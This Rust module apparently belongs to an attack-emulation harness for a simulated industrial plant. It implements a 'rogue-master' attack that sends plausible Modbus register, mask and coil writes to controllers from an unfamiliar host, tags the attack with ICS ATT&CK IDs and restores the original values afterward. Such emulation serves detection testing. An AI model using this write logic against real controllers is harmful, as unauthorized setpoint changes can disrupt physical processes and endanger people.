//! Rogue master: a host that never commanded writes to controllers, values as they are usual there.

use tokio_modbus::Request;

use super::{Attack, Needs, moved};
use crate::plant::Target;
use crate::plant::points::{Part, Table};
use crate::repair::Before;
use crate::stage::{Outcome, Stage};

pub static ATTACK: Attack = Attack {
    name: "rogue-master",
    about: "writes plausible values to controllers from a host that never did",
    technique: moved("T0855", "T1692.001"),
    acceptable: &["T0848", "T0836", "T0831"],
    grade: "A",
    kind: "fast",
    proto: "modbus",
    variants: &["register", "coil", "mask", "read-write"],
    needs: Needs::Sockets,
    seconds: [950, 100, 6],
    run: |stage| Box::pin(run(stage)),
};

async fn run(mut stage: Stage) -> Outcome {
    let mut before = Before::default();
    let outcome = command(&mut stage, &mut before).await;
    before.restored(&mut stage, 180.0);
    outcome
}

async fn command(stage: &mut Stage, before: &mut Before) -> Outcome {
    let intruder = stage.stranger();
    let (part, table) =
        if stage.is("coil") { (Part::Command, Table::Coil) } else { (Part::Setpoint, Table::Holding) };
    let narrow = stage.is("mask");
    let fits = |target: &Target| {
        let point = target.point;
        point.part == part && point.table == table && (!narrow || point.width() == 1)
    };
    let (most, writes) = stage.by((2, 5), (4, 12), (12, 30));
    let targets = stage.some(most, fits);
    for nth in 0..if targets.is_empty() { 0 } else { writes } {
        let target = &targets[nth % targets.len()];
        let point = target.point;
        let mut master = intruder.reach(stage.at(target));
        let found = before.look(stage, &mut master, target).await?.unwrap_or(point.low);
        stage.pause(stage.by(10.0, 1.0, 0.02)).await;
        let mut value = if table == Table::Coil {
            f64::from(found < 0.5)
        } else {
            stage.rng.within(point.low, point.high)
        };
        let words = point.encode(value)[..usize::from(point.width())].to_vec();
        match stage.variant {
            "mask" => {
                // Only the low bits move: a little more or less than before.
                let [old, _] = point.encode(found);
                let and = !0x0f;
                let or = stage.rng.below(16) as u16;
                value = point.decode([(old & and) | or, 0]);
                master.ask(target.unit, Request::MaskWriteRegister(point.addr, and, or)).await?;
            }
            "read-write" => {
                let request =
                    Request::ReadWriteMultipleRegisters(point.addr, point.width(), point.addr, words.into());
                master.ask(target.unit, request).await?;
            }
            _ => drop(master.put(target, value).await?),
        }
        stage.wrote(target, value);
        master.hang_up();
        stage.pause(stage.by(220.0, 8.0, 0.15)).await;
    }
    Ok(())
}
